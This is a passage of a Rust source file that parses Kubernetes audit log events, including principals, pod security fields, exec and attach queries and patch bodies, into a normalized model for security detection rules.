//! Kubernetes API server audit events: one `audit.k8s.io/v1` (or old `v1beta1`) `Event`
//! per record, as the log backend writes them and webhook backends forward them.
//!
//! The API server writes one event per request *stage*, all with the same `auditID`, so
//! one `kubectl exec` is two or three records. [`Decoded::evaluate`] marks the one record
//! per request that rules should see (see [`evaluate`] for which one).
//!
//! What a rule needs about a pod (privileged, host namespaces, hostPath mounts, added
//! capabilities, user, commands) is in the request or response *body*: `requestObject`
//! at `Request` level and up, `responseObject` at `RequestResponse`. Those bodies are
//! kept as raw JSON during the first pass and decoded into typed structs only for the
//! resources that carry a pod spec (pods and the workloads that template one), so a
//! ConfigMap, a custom resource or a JSON-patch array never meets the pod-spec types.
//! At `Metadata` level there is no body and `containers` stays empty: "not logged", not
//! "not privileged".
//!
//! Exec and attach carry no body: the command and the target container are query
//! parameters of `requestURI` (`.../exec?command=sh&command=-c&container=app`).
//!
//! A `patch` body is the patch document, in one of four formats, and each is read for
//! what it sets: a strategic merge or JSON merge patch is a partial object (the
//! containers it names carry the fields it sets), an apply patch is an object that holds
//! only the fields its manager owns (read the same way: what it leaves out is not
//! changed, so it stays `None`), and a JSON patch is a list of operations, of which the
//! `add` and `replace` operations whose path reaches the pod spec are read (see
//! [`json_patch_spec`]).
//!
//! Who asked: `principal.kind` is `serviceaccount` for `system:serviceaccount:*`, `node`
//! for `system:node:*` and `user` for everyone else. On EKS, `user.extra.arn` holds the
//! IAM identity the request was signed with; it is kept as `principal.uid` in place of
//! the authenticator's `aws-iam-authenticator:<account>:<principal id>`, which names the
//! same principal less usefully (the ARN names the role and the session).
//!
//! Not read because the model has no place for them yet: `level`, `impersonatedUser`,
//! the rest of `user.extra` (`canonicalArn`, `sessionName`, `accessKeyId`),
//! `annotations` (the authorization decision, Pod Security labels) and
//! `objectRef.apiVersion`. serde skips them without allocating.

use std::borrow::Cow;
use std::fmt;

use serde::Deserialize;
use serde::de::{self, Deserializer, SeqAccess, Visitor};
use serde_json::value::RawValue;

use super::borrowed::{Str, non_empty};
use super::{DecodeError, Decoded};
use crate::image_ref::ImageRef;
use crate::model::{
    Action, Container, ContainerRole, Event, HostMount, Principal, Process, RestartPolicy,
    SecurityContext, Source, Workload,
};
use crate::time::parse_rfc3339_ns;

/// One audit event as the API server writes it; unknown fields are skipped.
#[derive(Deserialize)]
#[serde(rename_all = "camelCase")]
struct RawK8sAudit<'a> {
    /// `Event`; read only to be checked, because an `EventList` or a `Policy` shares keys.
    #[serde(rename = "kind")]
    _kind: Option<EventKind>,
    /// The same for every stage of one request.
    #[serde(rename = "auditID", borrow)]
    audit_id: Str<'a>,
    #[serde(borrow)]
    stage: Option<Str<'a>>,
    #[serde(rename = "requestURI", borrow)]
    request_uri: Option<Str<'a>>,
    #[serde(borrow)]
    verb: Str<'a>,
    #[serde(borrow)]
    user: Option<RawUser<'a>>,
    /// Only the last entry is kept: the earlier ones come from `X-Forwarded-For` and
    /// `X-Real-Ip`, which the client controls; the last is the connection's peer.
    #[serde(rename = "sourceIPs", default, borrow, deserialize_with = "last_of")]
    source_ip: Option<Str<'a>>,
    /// Client-supplied.
    #[serde(borrow)]
    user_agent: Option<Str<'a>>,
    #[serde(borrow)]
    object_ref: Option<RawObjectRef<'a>>,
    #[serde(borrow)]
    response_status: Option<RawStatus<'a>>,
    /// For `patch` this is the patch document (strategic merge, JSON merge, JSON patch
    /// or apply), not the object.
    #[serde(borrow)]
    request_object: Option<&'a RawValue>,
    #[serde(borrow)]
    response_object: Option<&'a RawValue>,
    #[serde(borrow)]
    request_received_timestamp: Option<Str<'a>>,
    #[serde(borrow)]
    stage_timestamp: Option<Str<'a>>,
    /// `v1beta1` only.
    #[serde(borrow)]
    timestamp: Option<Str<'a>>,
}

#[derive(Deserialize)]
pub(super) struct RawUser<'a> {
    #[serde(borrow)]
    username: Option<Str<'a>>,
    #[serde(borrow)]
    uid: Option<Str<'a>>,
    #[serde(borrow)]
    groups: Option<Vec<Str<'a>>>,
    #[serde(borrow)]
    extra: Option<RawUserExtra<'a>>,
}

/// `user.extra`: a map of lists of strings, of which only EKS's IAM identity is read.
#[derive(Deserialize)]
struct RawUserExtra<'a> {
    /// The ARN the request was signed with (an `assumed-role` session, an IAM user).
    #[serde(default, borrow, deserialize_with = "first_of")]
    arn: Option<Str<'a>>,
}

#[derive(Deserialize)]
#[serde(rename_all = "camelCase")]
struct RawObjectRef<'a> {
    #[serde(borrow)]
    resource: Option<Str<'a>>,
    #[serde(borrow)]
    namespace: Option<Str<'a>>,
    #[serde(borrow)]
    name: Option<Str<'a>>,
    #[serde(borrow)]
    uid: Option<Str<'a>>,
    /// Absent or `""` for the core group.
    #[serde(borrow)]
    api_group: Option<Str<'a>>,
    #[serde(borrow)]
    subresource: Option<Str<'a>>,
}

#[derive(Deserialize)]
struct RawStatus<'a> {
    code: Option<i64>,
    /// `Forbidden`, `NotFound`, `AlreadyExists`, ... on failures.
    #[serde(borrow)]
    reason: Option<Str<'a>>,
}

/// A request or response body, when only its identity is wanted.
#[derive(Deserialize)]
struct RawObjectHead<'a> {
    #[serde(borrow)]
    kind: Option<Str<'a>>,
    #[serde(borrow)]
    metadata: Option<RawObjectMeta<'a>>,
}

/// A request or response body of a resource that carries a pod spec.
#[derive(Deserialize)]
#[serde(rename_all = "camelCase")]
struct RawPodObject<'a> {
    #[serde(borrow)]
    kind: Option<Str<'a>>,
    #[serde(borrow)]
    metadata: Option<RawObjectMeta<'a>>,
    /// The pod spec itself (Pod), or the workload spec that templates one.
    #[serde(borrow)]
    spec: Option<RawPodSpec<'a>>,
    /// The `EphemeralContainers` body of the `ephemeralcontainers` subresource in
    /// Kubernetes 1.16-1.22 lists them at the top; since 1.23 the body is a Pod.
    #[serde(borrow)]
    ephemeral_containers: Option<Vec<RawContainer<'a>>>,
}

#[derive(Default, Deserialize)]
#[serde(rename_all = "camelCase")]
struct RawObjectMeta<'a> {
    #[serde(borrow)]
    name: Option<Str<'a>>,
    #[serde(borrow)]
    generate_name: Option<Str<'a>>,
    #[serde(borrow)]
    namespace: Option<Str<'a>>,
    #[serde(borrow)]
    uid: Option<Str<'a>>,
    #[serde(borrow)]
    owner_references: Option<Vec<RawOwnerReference<'a>>>,
}

#[derive(Deserialize)]
struct RawOwnerReference<'a> {
    #[serde(borrow)]
    kind: Option<Str<'a>>,
    #[serde(borrow)]
    name: Option<Str<'a>>,
    /// At most one owner is the managing controller.
    controller: Option<bool>,
}

/// A `PodSpec`, and the two workload fields that lead to one: one struct serves every
/// level because the field names of `DeploymentSpec`, `JobSpec` and `CronJobSpec` do not
/// collide with those of `PodSpec`.
#[derive(Default, Deserialize)]
#[serde(rename_all = "camelCase")]
struct RawPodSpec<'a> {
    #[serde(borrow)]
    containers: Option<Vec<RawContainer<'a>>>,
    #[serde(borrow)]
    init_containers: Option<Vec<RawContainer<'a>>>,
    #[serde(borrow)]
    ephemeral_containers: Option<Vec<RawContainer<'a>>>,
    #[serde(rename = "hostPID")]
    host_pid: Option<bool>,
    host_network: Option<bool>,
    #[serde(rename = "hostIPC")]
    host_ipc: Option<bool>,
    #[serde(borrow)]
    volumes: Option<Vec<RawVolume<'a>>>,
    security_context: Option<RawPodSecurityContext>,
    #[serde(borrow)]
    restart_policy: Option<Str<'a>>,
    /// Deployment, DaemonSet, StatefulSet, ReplicaSet, ReplicationController, Job.
    #[serde(borrow)]
    template: Option<RawTemplate<'a>>,
    /// CronJob: a Job template, whose spec holds the pod template.
    #[serde(borrow)]
    job_template: Option<RawTemplate<'a>>,
}

#[derive(Deserialize)]
struct RawTemplate<'a> {
    #[serde(borrow)]
    spec: Option<Box<RawPodSpec<'a>>>,
}

#[derive(Default, Deserialize)]
#[serde(rename_all = "camelCase")]
struct RawPodSecurityContext {
    run_as_user: Option<i64>,
}

#[derive(Deserialize)]
#[serde(rename_all = "camelCase")]
struct RawVolume<'a> {
    #[serde(borrow)]
    name: Option<Str<'a>>,
    #[serde(borrow)]
    host_path: Option<RawHostPath<'a>>,
}

#[derive(Deserialize)]
struct RawHostPath<'a> {
    #[serde(borrow)]
    path: Option<Str<'a>>,
}

#[derive(Default, Deserialize)]
#[serde(rename_all = "camelCase")]
struct RawContainer<'a> {
    #[serde(borrow)]
    name: Option<Str<'a>>,
    #[serde(borrow)]
    image: Option<Str<'a>>,
    /// The entrypoint override.
    #[serde(borrow)]
    command: Option<Vec<Str<'a>>>,
    #[serde(borrow)]
    args: Option<Vec<Str<'a>>>,
    #[serde(borrow)]
    volume_mounts: Option<Vec<RawVolumeMount<'a>>>,
    #[serde(borrow)]
    security_context: Option<RawContainerSecurityContext<'a>>,
    /// Only on init containers: `Always` makes one a native sidecar.
    #[serde(borrow)]
    restart_policy: Option<Str<'a>>,
}

#[derive(Deserialize)]
#[serde(rename_all = "camelCase")]
struct RawVolumeMount<'a> {
    #[serde(borrow)]
    name: Option<Str<'a>>,
    #[serde(borrow)]
    mount_path: Option<Str<'a>>,
    read_only: Option<bool>,
    #[serde(borrow)]
    sub_path: Option<Str<'a>>,
}

#[derive(Default, Deserialize)]
#[serde(rename_all = "camelCase")]
struct RawContainerSecurityContext<'a> {
    privileged: Option<bool>,
    run_as_user: Option<i64>,
    #[serde(borrow)]
    capabilities: Option<RawCapabilities<'a>>,
}

#[derive(Default, Deserialize)]
struct RawCapabilities<'a> {
    #[serde(borrow)]
    add: Option<Vec<Str<'a>>>,
}

/// The top-level `kind`: only `"Event"` is accepted. Checked inside serde so that the
/// error carries the column.
struct EventKind;

impl<'de> Deserialize<'de> for EventKind {
    fn deserialize<D: Deserializer<'de>>(deserializer: D) -> Result<Self, D::Error> {
        struct EventKindVisitor;

        impl Visitor<'_> for EventKindVisitor {
            type Value = EventKind;

            fn expecting(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
                f.write_str("kind \"Event\"")
            }

            fn visit_str<E: de::Error>(self, v: &str) -> Result<EventKind, E> {
                if v == "Event" {
                    Ok(EventKind)
                } else {
                    Err(E::invalid_value(de::Unexpected::Str(v), &self))
                }
            }
        }

        deserializer.deserialize_str(EventKindVisitor)
    }
}

/// The last string of an array, without collecting the array.
fn last_of<'de, D: Deserializer<'de>>(deserializer: D) -> Result<Option<Str<'de>>, D::Error> {
    struct LastVisitor;

    impl<'de> Visitor<'de> for LastVisitor {
        type Value = Option<Str<'de>>;

        fn expecting(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
            f.write_str("an array of strings")
        }

        fn visit_unit<E: de::Error>(self) -> Result<Self::Value, E> {
            Ok(None)
        }

        fn visit_seq<A: SeqAccess<'de>>(self, mut seq: A) -> Result<Self::Value, A::Error> {
            let mut last = None;
            while let Some(item) = seq.next_element::<Str<'de>>()? {
                last = Some(item);
            }
            Ok(last)
        }
    }

    deserializer.deserialize_any(LastVisitor)
}

/// The first string of an array (`user.extra` values are lists), or a lone string.
fn first_of<'de, D: Deserializer<'de>>(deserializer: D) -> Result<Option<Str<'de>>, D::Error> {
    struct FirstVisitor;

    impl<'de> Visitor<'de> for FirstVisitor {
        type Value = Option<Str<'de>>;

        fn expecting(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
            f.write_str("a string or an array of strings")
        }

        fn visit_unit<E: de::Error>(self) -> Result<Self::Value, E> {
            Ok(None)
        }

        fn visit_borrowed_str<E: de::Error>(self, v: &'de str) -> Result<Self::Value, E> {
            Ok(Some(Str(Cow::Borrowed(v))))
        }

        fn visit_str<E: de::Error>(self, v: &str) -> Result<Self::Value, E> {
            Ok(Some(Str(Cow::Owned(v.to_owned()))))
        }

        fn visit_seq<A: SeqAccess<'de>>(self, mut seq: A) -> Result<Self::Value, A::Error> {
            let first = seq.next_element::<Str<'de>>()?;
            while seq.next_element::<de::IgnoredAny>()?.is_some() {}
            Ok(first)
        }
    }

    deserializer.deserialize_any(FirstVisitor)
}

/// Where an object of a known resource keeps its pod spec.
#[derive(Clone, Copy, PartialEq, Eq, Debug)]
enum PodSpecAt {
    /// Pod: `spec`.
    Spec,
    /// `spec.template.spec`.
    Template,
    /// CronJob: `spec.jobTemplate.spec.template.spec`.
    JobTemplate,
}

const CORE: &[&str] = &[""];
/// `extensions` served Deployments, DaemonSets and ReplicaSets until Kubernetes 1.16.
const APPS: &[&str] = &["apps", "extensions"];
const BATCH: &[&str] = &["batch"];
const RBAC: &[&str] = &["rbac.authorization.k8s.io"];
const AUTHORIZATION: &[&str] = &["authorization.k8s.io"];

/// Built-in resources, the API groups that serve them (`""` is the core group) and the
/// kind of their objects. The kind is named from here even when the event has no body
/// (Metadata level, delete, exec), so one resource always gives one `Workload::kind`.
const KNOWN_RESOURCES: &[(&str, &[&str], &str)] = &[
    ("pods", CORE, "Pod"),
    ("deployments", APPS, "Deployment"),
    ("daemonsets", APPS, "DaemonSet"),
    ("statefulsets", APPS, "StatefulSet"),
    ("replicasets", APPS, "ReplicaSet"),
    ("replicationcontrollers", CORE, "ReplicationController"),
    ("jobs", BATCH, "Job"),
    ("cronjobs", BATCH, "CronJob"),
    ("configmaps", CORE, "ConfigMap"),
    ("secrets", CORE, "Secret"),
    ("services", CORE, "Service"),
    ("serviceaccounts", CORE, "ServiceAccount"),
    ("namespaces", CORE, "Namespace"),
    ("nodes", CORE, "Node"),
    ("persistentvolumes", CORE, "PersistentVolume"),
    ("persistentvolumeclaims", CORE, "PersistentVolumeClaim"),
    ("roles", RBAC, "Role"),
    ("rolebindings", RBAC, "RoleBinding"),
    ("clusterroles", RBAC, "ClusterRole"),
    ("clusterrolebindings", RBAC, "ClusterRoleBinding"),
    (
        "selfsubjectrulesreviews",
        AUTHORIZATION,
        "SelfSubjectRulesReview",
    ),
    (
        "selfsubjectaccessreviews",
        AUTHORIZATION,
        "SelfSubjectAccessReview",
    ),
];

/// The kind of a built-in `resource` in `group`. An absent `apiGroup` is accepted for any
/// group (hand-written and re-exported events drop it); a present one must match, so
/// `pods.metrics.k8s.io` or a custom `deployments` resource is not read as a workload.
pub(super) fn known_kind(resource: &str, group: Option<&str>) -> Option<&'static str> {
    KNOWN_RESOURCES
        .iter()
        .find(|(r, groups, _)| *r == resource && group.is_none_or(|g| groups.contains(&g)))
        .map(|&(_, _, kind)| kind)
}

/// Where objects of a built-in `kind` keep a pod spec: pods and the workloads that
/// template one.
fn pod_spec_at(kind: &str) -> Option<PodSpecAt> {
    match kind {
        "Pod" => Some(PodSpecAt::Spec),
        "Deployment"
        | "DaemonSet"
        | "StatefulSet"
        | "ReplicaSet"
        | "ReplicationController"
        | "Job" => Some(PodSpecAt::Template),
        "CronJob" => Some(PodSpecAt::JobTemplate),
        _ => None,
    }
}

/// What the request was about, taken from `objectRef` before any body is read.
pub(super) struct Target<'r> {
    pub(super) subresource: Option<&'r str>,
    /// The kind of a built-in resource.
    pub(super) known: Option<&'static str>,
}

impl Target<'_> {
    fn has_pod_spec(&self) -> bool {
        self.known.and_then(pod_spec_at).is_some()
    }

    /// Whether a body of this kind is the target object itself (rather than a `Status`,
    /// `DeleteOptions`, a list, or the body of a subresource such as `Scale`).
    fn is_target_kind(&self, kind: Option<&str>) -> bool {
        match (self.known, kind) {
            // Patch documents and hand-written bodies carry no kind.
            (_, None) => true,
            (Some(known), Some(kind)) => {
                kind == known
                    || (kind == "EphemeralContainers" && self.subresource == Some(EPHEMERAL))
            }
            (None, Some(kind)) => {
                self.subresource.is_none()
                    && !matches!(kind, "Status" | "DeleteOptions")
                    && !kind.ends_with("List")
            }
        }
    }
}

pub(super) const EXEC: &str = "exec";
pub(super) const ATTACH: &str = "attach";
const EPHEMERAL: &str = "ephemeralcontainers";

pub(crate) fn decode(text: &str) -> Result<Decoded<'_>, DecodeError> {
    let raw: RawK8sAudit<'_> =
        serde_json::from_str(text).map_err(|e| DecodeError::from_json(Source::K8sAudit, e))?;

    let target = Target {
        subresource: raw
            .object_ref
            .as_ref()
            .and_then(|r| r.subresource.as_ref())
            .map(|s| &*s.0),
        known: raw.object_ref.as_ref().and_then(|r| {
            let group = r.api_group.as_ref().map(|g| &*g.0);
            known_kind(&r.resource.as_ref()?.0, group)
        }),
    };
    let verb = raw.verb.0;
    let watch_query = raw
        .request_uri
        .as_ref()
        .is_some_and(|u| watch_requested(&u.0));
    let action = action(&verb, &target, watch_query);
    let evaluate = evaluate(raw.stage.as_ref().map(|s| &*s.0), &target, action);

    // Bodies: containers for the resources that hold a pod spec, identity for the rest.
    let bodies = Bodies {
        response: raw.response_object,
        request: raw.request_object,
        response_field: "responseObject",
        request_field: "requestObject",
        source: Source::K8sAudit,
    };
    let mut process = None;
    let mut object = TargetObject::default();
    match target.subresource {
        Some(EXEC | ATTACH) => {
            if let Some(uri) = &raw.request_uri {
                let query = ExecQuery::of(&uri.0);
                object
                    .containers
                    .extend(query.container.map(|name| Container {
                        name: Some(name),
                        ..Container::default()
                    }));
                process = process_of(query.command);
            }
        }
        _ => object = target_object(text, bodies, &target, &verb)?,
    }

    let mut event = Event::new(Source::K8sAudit, action, verb);
    event.time_ns = [
        &raw.stage_timestamp,
        &raw.request_received_timestamp,
        &raw.timestamp,
    ]
    .into_iter()
    .flatten()
    .find_map(|t| parse_rfc3339_ns(&t.0));
    event.request_id = Some(raw.audit_id.0);
    if let Some(status) = raw.response_status {
        event.response_code = status.code.and_then(|c| u16::try_from(c).ok());
        // A failed request: the status reason, else the code.
        if let Some(code) = status.code.filter(|&c| c >= 400) {
            event.error = non_empty(status.reason).or(Some(Cow::Owned(code.to_string())));
        }
    }
    event.principal = principal(raw.user, raw.source_ip, raw.user_agent);
    let known = target.known;
    let containers = std::mem::take(&mut object.containers);
    event.workload = raw.object_ref.and_then(|r| {
        let resource = r.resource?.0;
        Some(object.workload(
            known,
            resource,
            non_empty(r.name),
            non_empty(r.namespace),
            non_empty(r.uid),
        ))
    });
    event.containers = containers;
    event.process = process;
    Ok(Decoded {
        event,
        evaluate,
        raw: None,
    })
}

/// The normalized action. `get` and `create` on `exec`/`attach` are both the exec:
/// kubectl before 1.30 connects with a POST (`create`), 1.30 and later with a WebSocket
/// GET (`get`).
///
/// Creating a `SelfSubjectRulesReview` or `SelfSubjectAccessReview` (`kubectl auth
/// can-i --list`, `kubectl auth can-i create pods`) asks the API server what the caller
/// may do: discovery by another route, so it is a `ResourceList` of the review kind.
pub(super) fn action(verb: &str, target: &Target<'_>, watch_query: bool) -> Action {
    match (target.subresource, verb) {
        (Some(EXEC), _) => return Action::ContainerExec,
        (Some(ATTACH), _) => return Action::ContainerAttach,
        (Some(EPHEMERAL), "update") => return Action::WorkloadUpdate,
        (Some(EPHEMERAL), "patch") => return Action::WorkloadPatch,
        _ => {}
    }
    match verb {
        "get" => return Action::ResourceGet,
        // The API server itself reads `list` with `?watch=true` (not `false`/`0`) as a watch.
        "list" if watch_query => return Action::ResourceWatch,
        "list" => return Action::ResourceList,
        "watch" => return Action::ResourceWatch,
        "create"
            if matches!(
                target.known,
                Some("SelfSubjectRulesReview" | "SelfSubjectAccessReview")
            ) =>
        {
            return Action::ResourceList;
        }
        _ => {}
    }
    // Writes to other subresources (`status`, `scale`, `binding`, `eviction`) do not
    // change what the workload runs.
    if target.subresource.is_some() || !target.has_pod_spec() {
        return Action::Other;
    }
    match verb {
        "create" => Action::WorkloadCreate,
        "update" => Action::WorkloadUpdate,
        "patch" => Action::WorkloadPatch,
        "delete" | "deletecollection" => Action::WorkloadDelete,
        _ => Action::Other,
    }
}

/// Whether rules should see this stage of the request: exactly one stage per request.
///
/// - `RequestReceived` never: it is written before authorization and always followed by
///   the stage that completes the request.
/// - Ordinary requests: `ResponseComplete`, or `Panic`, which replaces it when the
///   handler panics.
/// - Long-running requests (`exec`, `attach`, `portforward`, and watches): the API
///   server writes `ResponseStarted` when the response headers go out (code 101 for an
///   upgraded exec, or the error code), and `ResponseComplete` only when the session
///   ends, possibly hours later. `ResponseStarted` is the one evaluated, so an exec
///   alerts when it starts; its `ResponseComplete` is not, so it does not alert twice.
///   An audit policy that omits `ResponseStarted` (`omitStages`) therefore hides these
///   requests from rules.
/// - No `stage` (some exporters drop it) or one this code does not know: evaluated, as
///   there is no way to tell the stages of such a request apart; a duplicate alert is
///   better than none.
fn evaluate(stage: Option<&str>, target: &Target<'_>, action: Action) -> bool {
    // `ResourceWatch` covers the `watch` verb and `list?watch=true`.
    let long_running = matches!(target.subresource, Some(EXEC | ATTACH | "portforward"))
        || action == Action::ResourceWatch;
    match stage {
        Some("RequestReceived") => false,
        Some("ResponseStarted") => long_running,
        Some("ResponseComplete" | "Panic") => !long_running,
        Some(_) | None => true,
    }
}

fn principal<'a>(
    user: Option<RawUser<'a>>,
    source_ip: Option<Str<'a>>,
    user_agent: Option<Str<'a>>,
) -> Option<Principal<'a>> {
    let source_ip = non_empty(source_ip);
    let user_agent = non_empty(user_agent);
    if user.is_none() && source_ip.is_none() && user_agent.is_none() {
        return None;
    }
    let (name, uid, groups) = match user {
        Some(u) => (
            u.username.map(|s| s.0).unwrap_or_default(),
            // EKS: the IAM ARN names the principal better than the authenticator's uid.
            non_empty(u.extra.and_then(|e| e.arn)).or(non_empty(u.uid)),
            u.groups.map(strings).unwrap_or_default(),
        ),
        None => (Cow::Borrowed(""), None, Vec::new()),
    };
    Some(Principal {
        kind: principal_kind(&name).map(Cow::Borrowed),
        name,
        uid,
        groups,
        source_ip,
        user_agent,
    })
}

/// The kind of a Kubernetes user name: `serviceaccount` (`system:serviceaccount:ns:name`),
/// `node` (`system:node:<node>`, a kubelet) or `user` (people, and the control plane's
/// own `system:*` users); `None` when there is no name.
pub(super) fn principal_kind(name: &str) -> Option<&'static str> {
    if name.is_empty() {
        None
    } else if name.starts_with("system:serviceaccount:") {
        Some("serviceaccount")
    } else if name.starts_with("system:node:") {
        Some("node")
    } else {
        Some("user")
    }
}

/// `responseObject` and `requestObject` (GKE: `response` and `request`), still raw.
#[derive(Clone, Copy)]
pub(super) struct Bodies<'a> {
    pub(super) response: Option<&'a RawValue>,
    pub(super) request: Option<&'a RawValue>,
    /// The names errors inside the bodies are reported under.
    pub(super) response_field: &'static str,
    pub(super) request_field: &'static str,
    pub(super) source: Source,
}

/// A body that holds the target's pod spec, with what was read from it.
struct PodObject<'a> {
    kind: Option<Str<'a>>,
    metadata: Option<RawObjectMeta<'a>>,
    containers: Vec<Container<'a>>,
}

/// What the bodies of a request say about its target object.
#[derive(Default)]
pub(super) struct TargetObject<'a> {
    kind: Option<Cow<'a, str>>,
    /// The name, or the `generateName` prefix the server completes.
    name: Option<Cow<'a, str>>,
    namespace: Option<Cow<'a, str>>,
    uid: Option<Cow<'a, str>>,
    /// The controlling owner reference, `Kind/name`.
    owner: Option<Cow<'a, str>>,
    pub(super) containers: Vec<Container<'a>>,
}

impl<'a> TargetObject<'a> {
    fn new(kind: Option<Str<'a>>, meta: Option<RawObjectMeta<'a>>) -> Self {
        let meta = meta.unwrap_or_default();
        TargetObject {
            kind: kind.map(|k| k.0),
            name: non_empty(meta.name).or(non_empty(meta.generate_name)),
            namespace: non_empty(meta.namespace),
            uid: non_empty(meta.uid),
            owner: owner(meta.owner_references),
            containers: Vec::new(),
        }
    }

    /// The workload, named from the request's own target first (`objectRef`, GKE's
    /// `resourceName`), then from the body. The kind is the built-in kind of the
    /// resource, else the body's kind, else the resource name.
    pub(super) fn workload(
        self,
        known: Option<&'static str>,
        resource: Cow<'a, str>,
        name: Option<Cow<'a, str>>,
        namespace: Option<Cow<'a, str>>,
        uid: Option<Cow<'a, str>>,
    ) -> Workload<'a> {
        let kind = match (known, self.kind) {
            (Some(known), _) => Cow::Borrowed(known),
            (None, Some(kind)) => kind,
            (None, None) => resource,
        };
        Workload {
            kind,
            name: name.or(self.name),
            namespace: namespace.or(self.namespace),
            uid: uid.or(self.uid),
            owner: self.owner,
        }
    }
}

/// `Kind/name` of the controller among the owner references, else of the first.
fn owner<'a>(refs: Option<Vec<RawOwnerReference<'a>>>) -> Option<Cow<'a, str>> {
    let mut refs = refs?;
    let at = refs
        .iter()
        .position(|r| r.controller == Some(true))
        .unwrap_or(0);
    if at >= refs.len() {
        return None;
    }
    let chosen = refs.swap_remove(at);
    let kind = non_empty(chosen.kind)?;
    let name = non_empty(chosen.name)?;
    Some(Cow::Owned(format!("{kind}/{name}")))
}

/// Read the bodies of a request that is not an exec or attach: the containers of the
/// resources that carry a pod spec, and the identity of any target object.
pub(super) fn target_object<'a>(
    text: &'a str,
    bodies: Bodies<'a>,
    target: &Target<'_>,
    verb: &str,
) -> Result<TargetObject<'a>, DecodeError> {
    let is_patch = verb == "patch";
    let found = if matches!(target.subresource, None | Some(EPHEMERAL)) && target.has_pod_spec() {
        pod_object(text, bodies, target, is_patch)?
    } else {
        None
    };
    let (kind, meta, containers) = match found {
        Some(found) => (found.kind, found.metadata, found.containers),
        None => (None, None, Vec::new()),
    };
    // A body without metadata (a patch document, a bare spec): the identity from the
    // other body, when it is the target object.
    let (kind, meta) = match meta {
        Some(meta) => (kind, Some(meta)),
        None => match object_head(bodies, target, is_patch) {
            Some(head) => (kind.or(head.kind), head.metadata),
            None => (kind, None),
        },
    };
    let mut object = TargetObject::new(kind, meta);
    object.containers = containers;
    Ok(object)
}

/// The containers of the target, from `responseObject` when it holds the pod spec (the
/// API server has applied defaults and generated the name by then), else from
/// `requestObject`.
///
/// A body of the resource that does not decode as one is a `Shape` error located in the
/// record, except for a patch document: patches come in four formats and a JSON patch
/// (an array) or a merge patch that does not fit is simply skipped. A merge patch that
/// does fit is read like an object: the containers it names carry the fields it sets,
/// and what it does not set stays `None`.
fn pod_object<'a>(
    text: &'a str,
    bodies: Bodies<'a>,
    target: &Target<'_>,
    is_patch: bool,
) -> Result<Option<PodObject<'a>>, DecodeError> {
    let Some(at) = target.known.and_then(pod_spec_at) else {
        return Ok(None);
    };
    let source = bodies.source;
    let bodies = [
        (bodies.response, bodies.response_field, false),
        (bodies.request, bodies.request_field, is_patch),
    ];
    for (body, field, patch_document) in bodies {
        let Some(body) = body else {
            continue;
        };
        if patch_document && body.get().starts_with('[') {
            let Some(spec) = json_patch_spec(body, at) else {
                continue;
            };
            let containers = pod_containers(spec, false, target.subresource == Some(EPHEMERAL));
            return Ok(Some(PodObject {
                kind: None,
                metadata: None,
                containers,
            }));
        }
        if !body.get().starts_with('{') {
            continue;
        }
        let object: RawPodObject<'a> = match serde_json::from_str(body.get()) {
            Ok(object) => object,
            Err(_) if patch_document => continue,
            Err(e) => return Err(nested_error(text, body, field, source, e)),
        };
        if !target.is_target_kind(object.kind.as_ref().map(|k| &*k.0)) {
            continue;
        }
        // The old `EphemeralContainers` body says nothing about the pod itself.
        let (spec, full_object) = if object
            .kind
            .as_ref()
            .is_some_and(|k| k.0 == "EphemeralContainers")
        {
            let spec = RawPodSpec {
                ephemeral_containers: object.ephemeral_containers,
                ..RawPodSpec::default()
            };
            (Some(spec), false)
        } else {
            (object.spec.and_then(|s| s.pod_spec_at(at)), !patch_document)
        };
        let Some(spec) = spec else {
            continue;
        };
        let containers = pod_containers(spec, full_object, target.subresource == Some(EPHEMERAL));
        return Ok(Some(PodObject {
            kind: object.kind,
            metadata: object.metadata,
            containers,
        }));
    }
    Ok(None)
}

/// The containers of a JSON list of Kubernetes-style containers (`name`, `image`,
/// `command`, `args`, `securityContext`, ...) that sits outside a pod spec, such as a
/// Cloud Run revision template's: nothing is said about the pod around them.
pub(super) fn container_list<'a>(
    list: &'a RawValue,
    role: ContainerRole,
) -> Result<Vec<Container<'a>>, serde_json::Error> {
    let list: Vec<RawContainer<'a>> = serde_json::from_str(list.get())?;
    let spec = match role {
        ContainerRole::Main => RawPodSpec {
            containers: Some(list),
            ..RawPodSpec::default()
        },
        ContainerRole::Init => RawPodSpec {
            init_containers: Some(list),
            ..RawPodSpec::default()
        },
        ContainerRole::Ephemeral => RawPodSpec {
            ephemeral_containers: Some(list),
            ..RawPodSpec::default()
        },
    };
    Ok(pod_containers(spec, false, false))
}

/// Kind and metadata of the first body that is the target object itself.
fn object_head<'a>(
    bodies: Bodies<'a>,
    target: &Target<'_>,
    is_patch: bool,
) -> Option<RawObjectHead<'a>> {
    [(bodies.response, false), (bodies.request, is_patch)]
        .into_iter()
        // A patch document's metadata is the change, not the object.
        .filter(|(_, patch_document)| !patch_document)
        .filter_map(|(body, _)| body.filter(|b| b.get().starts_with('{')))
        .filter_map(|body| serde_json::from_str::<RawObjectHead<'a>>(body.get()).ok())
        .find(|head| target.is_target_kind(head.kind.as_ref().map(|k| &*k.0)))
}

/// A decode error inside a body, located in the whole record.
fn nested_error(
    text: &str,
    body: &RawValue,
    field: &str,
    source: Source,
    err: serde_json::Error,
) -> DecodeError {
    let inner = body.get();
    // The body is a slice of `text` (serde_json borrows raw values from the input).
    let start = (inner.as_ptr() as usize)
        .checked_sub(text.as_ptr() as usize)
        .filter(|&s| s <= text.len())
        .unwrap_or(0);
    // serde_json counts lines from 1 and columns from 1, in bytes.
    let line_start = match err.line() {
        0 | 1 => 0,
        n => inner
            .match_indices('\n')
            .nth(n - 2)
            .map_or(0, |(i, _)| i + 1),
    };
    let offset = (start + line_start + err.column().saturating_sub(1)).min(text.len());
    let line_begin = text[..offset].rfind('\n').map_or(0, |i| i + 1);
    let column = u32::try_from(offset - line_begin + 1).unwrap_or(u32::MAX);
    let mut error = DecodeError::from_json(source, err);
    if let DecodeError::Shape {
        column: at,
        message,
        ..
    }
    | DecodeError::Syntax {
        column: at,
        message,
    } = &mut error
    {
        *at = column;
        message.insert_str(0, &format!("{field}: "));
    }
    error
}

/// One operation of a JSON patch (RFC 6902).
#[derive(Deserialize)]
struct RawPatchOperation<'a> {
    #[serde(borrow)]
    op: Option<Str<'a>>,
    #[serde(borrow)]
    path: Option<Str<'a>>,
    #[serde(borrow)]
    value: Option<&'a RawValue>,
}

